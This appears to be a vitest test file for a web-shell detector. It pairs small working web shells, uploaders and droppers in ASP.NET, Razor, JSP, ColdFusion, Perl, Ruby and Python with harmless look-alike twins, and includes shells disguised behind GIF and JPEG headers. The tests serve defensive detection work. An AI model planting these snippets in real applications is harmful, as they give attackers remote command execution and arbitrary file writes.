import fc from 'fast-check'
import { beforeAll, describe, expect, test } from 'vitest'
import { testGrammars } from '../../../../../test/grammars.ts'
import { analyse } from '../analyse.ts'
import type { Grammars } from '../syntax.ts'

let grammars: Grammars
beforeAll(async () => {
  grammars = await testGrammars()
})

const judged = (path: string, text: string) =>
  analyse({ path, text, bytes: Uint8Array.from(text, letter => letter.charCodeAt(0) & 255) }, grammars)

/** Code of a web application that lies in no page: what a request says is run, and beside it what looks alike. Nothing here reaches anything. */
const PAIRS: readonly (readonly [what: string, path: string, shell: string, twin: string])[] = [
  [
    'a handler in App_Code',
    'App_Code/Log.cs',
    'using System.Web;\nusing System.Diagnostics;\npublic class Log : IHttpHandler {\n  public bool IsReusable { get { return false; } }\n  public void ProcessRequest(HttpContext context) {\n    Process.Start("cmd.exe", "/c " + context.Request["c"]);\n  }\n}',
    'using System.Web;\nusing System.Diagnostics;\npublic class Log : IHttpHandler {\n  public bool IsReusable { get { return false; } }\n  public void ProcessRequest(HttpContext context) {\n    Process.Start("convert.exe", "-version");\n    context.Response.Write(context.Request["c"].Length);\n  }\n}',
  ],
  [
    'code behind a page, its field declared elsewhere',
    'admin/Tool.aspx.cs',
    'namespace Site {\n public partial class Tool : System.Web.UI.Page {\n  protected void Go_Click(object sender, System.EventArgs e) {\n   var p = new System.Diagnostics.Process();\n   p.StartInfo.FileName = "cmd.exe";\n   p.StartInfo.Arguments = "/c " + Wanted.Text;\n   p.Start();\n  }\n }\n}',
    'namespace Site {\n public partial class Tool : System.Web.UI.Page {\n  protected void Go_Click(object sender, System.EventArgs e) {\n   var p = new System.Diagnostics.Process();\n   p.StartInfo.FileName = "report.exe";\n   p.StartInfo.Arguments = "-all";\n   p.Start();\n   Result.Text = Wanted.Text;\n  }\n }\n}',
  ],
  [
    'the code of the application',
    'Global.asax.cs',
    'public class Global : System.Web.HttpApplication {\n protected void Application_BeginRequest(object s, System.EventArgs e) {\n  var k = Request.Headers["X-Id"];\n  if (k != null) System.Reflection.Assembly.Load(System.Convert.FromBase64String(k)).CreateInstance("R").Equals(this);\n }\n}',
    'public class Global : System.Web.HttpApplication {\n protected void Application_BeginRequest(object s, System.EventArgs e) {\n  var k = Request.Headers["X-Id"];\n  if (k != null) Context.Items["id"] = System.Convert.FromBase64String(k);\n }\n}',
  ],
  [
    'Global.asax itself',
    'Global.asax',
    '<%@ Application Language="C#" %>\n<script runat="server">\nvoid Application_BeginRequest(object s, EventArgs e) { if (Request["c"] != null) System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); }\n</script>',
    '<%@ Application Language="C#" %>\n<script runat="server">\nvoid Application_BeginRequest(object s, EventArgs e) { if (Request["c"] != null) Context.Items["c"] = Request["c"]; }\n</script>',
  ],
  [
    'an action of a controller',
    'Controllers/PingController.cs',
    'using System.Diagnostics;\nusing System.Web.Mvc;\npublic class PingController : Controller {\n public string Run(string c) {\n  var p = Process.Start(new ProcessStartInfo { FileName = "/bin/sh", Arguments = "-c " + c, RedirectStandardOutput = true });\n  return p.StandardOutput.ReadToEnd();\n }\n}',
    'using System.Diagnostics;\nusing System.Web.Mvc;\npublic class PingController : Controller {\n public string Run(string c) {\n  var p = Process.Start(new ProcessStartInfo { FileName = "/usr/bin/uptime", RedirectStandardOutput = true });\n  return c + p.StandardOutput.ReadToEnd();\n }\n}',
  ],
  [
    'an operation of a service in Visual Basic',
    'App_Code/Service.vb',
    'Imports System.Web.Services\nPublic Class Service\n Inherits WebService\n <WebMethod()> _\n Public Function Run(ByVal c As String) As String\n  Dim p As New System.Diagnostics.Process\n  p.StartInfo.FileName = "cmd.exe"\n  p.StartInfo.Arguments = "/c " & c\n  p.Start()\n  Return p.StandardOutput.ReadToEnd()\n End Function\nEnd Class',
    'Imports System.Web.Services\nPublic Class Service\n Inherits WebService\n <WebMethod()> _\n Public Function Run(ByVal c As String) As String\n  Return c.Trim()\n End Function\nEnd Class',
  ],
  [
    'code behind a page in Visual Basic',
    'Tool.aspx.vb',
    'Imports System.Web\nPartial Class Tool\n Inherits System.Web.UI.Page\n Protected Sub Go(s As Object, e As EventArgs) Handles B.Click\n  Shell("cmd /c " & Request.Form("c"))\n End Sub\nEnd Class',
    'Imports System.Web\nPartial Class Tool\n Inherits System.Web.UI.Page\n Protected Sub Go(s As Object, e As EventArgs) Handles B.Click\n  Shell("c:\\tools\\sync.exe")\n  L.Text = Request.Form("c")\n End Sub\nEnd Class',
  ],
  [
    'a filter of every request',
    'App_Code/Filter.cs',
    'using System.Web;\npublic class F : IHttpModule {\n public void Init(HttpApplication app) { app.BeginRequest += On; }\n void On(object s, System.EventArgs e) {\n  var r = ((HttpApplication)s).Request;\n  System.IO.File.WriteAllText(r["p"], r["t"]);\n }\n public void Dispose() {}\n}',
    'using System.Web;\npublic class F : IHttpModule {\n public void Init(HttpApplication app) { app.BeginRequest += On; }\n void On(object s, System.EventArgs e) {\n  var r = ((HttpApplication)s).Request;\n  System.IO.File.AppendAllText("c:\\\\logs\\\\r.log", r["t"]);\n }\n public void Dispose() {}\n}',
  ],
  [
    'a Razor page',
    'Views/Home/Index.cshtml',
    '@using System.Diagnostics\n@{ var p = Process.Start("cmd.exe", "/c " + Request["c"]); }\n<p>@p.StandardOutput.ReadToEnd()</p>',
    '@using System.Diagnostics\n@{ var p = Process.GetCurrentProcess(); }\n<p>@p.Id @Request["c"]</p>',
  ],
  [
    'a Razor page in Visual Basic',
    'Views/Home/Index.vbhtml',
    '@Code\n  Dim c = Request("c")\n  If c <> "" Then\n    Shell("cmd /c " & c)\n  End If\nEnd Code\n<p>mail@example.org @c</p>',
    '@Code\n  Dim c = Request("c")\n  If c <> "" Then\n    c = c.Trim()\n  End If\nEnd Code\n<p>mail@example.org @c</p>',
  ],
  [
    'a part of a JSP',
    'inc/head.jspf',
    '<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
    '<% out.print(request.getParameter("c").length()); %>',
  ],
  [
    'a tag of JSP',
    'WEB-INF/tags/run.tag',
    '<%@ tag pageEncoding="UTF-8" %><% new ProcessBuilder("/bin/sh", "-c", request.getParameter("c")).start(); %>',
    '<%@ tag pageEncoding="UTF-8" %><% new ProcessBuilder("/usr/bin/uptime").start(); %>',
  ],
  [
    'ColdFusion: a program',
    'scripts/h.cfm',
    '<cfoutput><cfexecute name="cmd.exe" arguments="/c #form.c#" timeout="5" variable="o"></cfexecute>#o#</cfoutput>',
    '<cfoutput><cfexecute name="c:\\tools\\report.exe" arguments="-day #dateFormat(now())#" timeout="5" variable="o"></cfexecute>#htmlEditFormat(form.c)##o#</cfoutput>',
  ],
  [
    'ColdFusion: Java behind it, two steps between',
    'a.cfc',
    'component { remote function f(c) { var given = arguments.c; var all = given; createObject("java","java.lang.Runtime").getRuntime().exec(all); } }',
    'component { remote function f(c) { var given = arguments.c; createObject("java","java.lang.Runtime").getRuntime().availableProcessors(); return given; } }',
  ],
  [
    'ColdFusion: evaluated',
    'a.cfm',
    '<cfset x = url.q><cfset y = evaluate(x)>',
    '<cfset x = url.q><cfloop list="#form.fieldnames#" index="i"><cfset y = evaluate("form.#i#")></cfloop>',
  ],
  [
    'ColdFusion: any file',
    'a.cfm',
    '<cfset b = form.body><cffile action="write" file="#form.name#" output="#b#">',
    '<cfset b = form.body><cffile action="write" file="#expandPath(\'data.txt\')#" output="#b#">',
  ],
  [
    'ColdFusion: any query on any database',
    'a.cfm',
    '<cfquery name="r" datasource="#form.d#">#preserveSingleQuotes(form.q)#</cfquery>',
    '<cfquery name="r" datasource="#application.dsn#">select a from b where c = <cfqueryparam value="#form.q#"></cfquery>',
  ],
  [
    'ColdFusion under another name',
    'logo.gif.txt',
    'GIF89a<cfexecute name="#url.p#" arguments="#url.a#"></cfexecute>',
    'GIF89a<cfoutput>#htmlEditFormat(url.p)#</cfoutput>',
  ],
  [
    'Perl: a pipe',
    'cgi-bin/env.pl',
    '#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $c = $q->param("c");\nopen(my_pipe, "$c 2>&1 |");\nprint <my_pipe>;',
    '#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $c = $q->param("c");\nopen(my_pipe, "/usr/bin/uptime |");\nprint <my_pipe>, length($c);',
  ],
  [
    'Perl: a list of a program and what is asked',
    'cgi-bin/look.cgi',
    '#!/usr/bin/perl\nuse CGI;\n$q = new CGI;\nsystem($q->param("c"));',
    '#!/usr/bin/perl\nuse CGI;\n$q = new CGI;\nsystem("host", "-t", $q->param("c"));\neval { die };\n',
  ],
  [
    'Ruby',
    'a.cgi',
    '#!/usr/bin/env ruby\nrequire "cgi"\ncgi = CGI.new\nputs %x(#{cgi["c"]})',
    '#!/usr/bin/env ruby\nrequire "cgi"\ncgi = CGI.new\nputs cgi["c"].length',
  ],
  [
    'Python',
    'a.cgi',
    '#!/usr/bin/python3\nimport cgi, subprocess\nform = cgi.FieldStorage()\nc = form.getvalue("c")\nprint(subprocess.check_output(c, shell=True))',
    '#!/usr/bin/python3\nimport cgi, subprocess\nform = cgi.FieldStorage()\nc = form.getvalue("c")\nprint(subprocess.check_output(["uptime"]))',
  ],
  [
    'Perl: any file',
    'up.pl',
    '#!/usr/bin/perl\nuse CGI;\n$q = new CGI;\n$n = $q->param("n");\n$t = $q->param("t");\nopen(F, ">$n");\nprint F $t;\nclose(F);',
    '#!/usr/bin/perl\nuse CGI;\n$q = new CGI;\n$n = $q->param("n");\n$t = $q->param("t");\nopen(F, ">/var/lib/book/new");\nprint F $t;\nclose(F);',
  ],
]

describe('code that lies in no page', () => {
  test.each(PAIRS)('%s', (_what, path, shell, twin) => {
    expect(judged(path, shell).verdict).toMatch(/^(?:web-shell|uploader|dropper)$/)
    expect(judged(path, twin).verdict).toBe('clean')
  })

  test.each([
    [
      'a program with windows',
      'Main.cs',
      'using System.Windows.Forms;\nusing System.Web;\nclass M : Form { TextBox txtCmd; void Go() { System.Diagnostics.Process.Start(txtCmd.Text); } }',
    ],
    [
      'a program with windows, Visual Basic',
      'Main.vb',
      'Imports System.Windows.Forms\nImports System.Web\nPublic Class M\n Inherits Form\n Sub Go()\n  Process.Start(txtCmd.Text)\n End Sub\nEnd Class',
    ],
    [
      'a tool of the command line',
      'Tool.cs',
      'class T { static void Main(string[] a) { System.Diagnostics.Process.Start("cmd.exe", "/c " + a[0]); } }',
    ],
  ])('not of a server: %s', (_what, path, text) => {
    expect(judged(path, text).verdict).toBe('clean')
  })

  test('what has no grammar is said to be judged by its words, and only where it asks for a request', () => {
    expect(judged('a.pl', '#!/usr/bin/perl\nuse CGI;\nprint CGI->new->param("a");')).toMatchObject({
      verdict: 'clean',
      language: 'script',
      parsed: false,
      prefiltered: false,
      whyNotParsed: 'judged by its words: there is no grammar for Perl',
    })
    expect(judged('a.pl', '#!/usr/bin/perl\nprint 1;').prefiltered).toBe(true)
    expect(judged('a.cfm', '<cfset a = form.b><cfinclude template="head.cfm">').whyNotParsed).toContain('ColdFusion')
  })

  test('the two letters of a page in pixels or machine code are no page', () => {
    const bytes = Array.from({ length: 4_000 }, (_, i) => String.fromCharCode((i * 97) % 251)).join('')
    expect(judged('logo.bin', `\x7fELF${bytes}<%\0execute (${bytes}) owned by\0 backdoor`).prefiltered).toBe(true)
    expect(judged('logo.jpg', `\xff\xd8\xff\xe0${bytes}\0\0<%eval request("x")%>`).verdict).toBe('web-shell')
  })

  test('any text under any of these names ends', () => {
    const words = fc.constantFrom(
      '<cfset a=form.b>',
      '<cfexecute name="',
      '#a#',
      'open(F,"',
      '$q->param("c")',
      '|',
      '@Code',
      'End Code',
      '@functions',
      '@If x Then',
      '{',
      '(',
      '"',
      '\n',
      'Request("c")',
      '`',
    )
    fc.assert(
      fc.property(
        fc.constantFrom('a.cs', 'a.vb', 'a.cfm', 'a.pl', 'a.vbhtml', 'a.cshtml'),
        fc.array(fc.oneof(words, fc.string()), { maxLength: 60 }),
        (path, parts) => {
          expect(judged(path, parts.join('')).verdict).toBeTypeOf('string')
        },
      ),
      { numRuns: 200 },
    )
  })
})
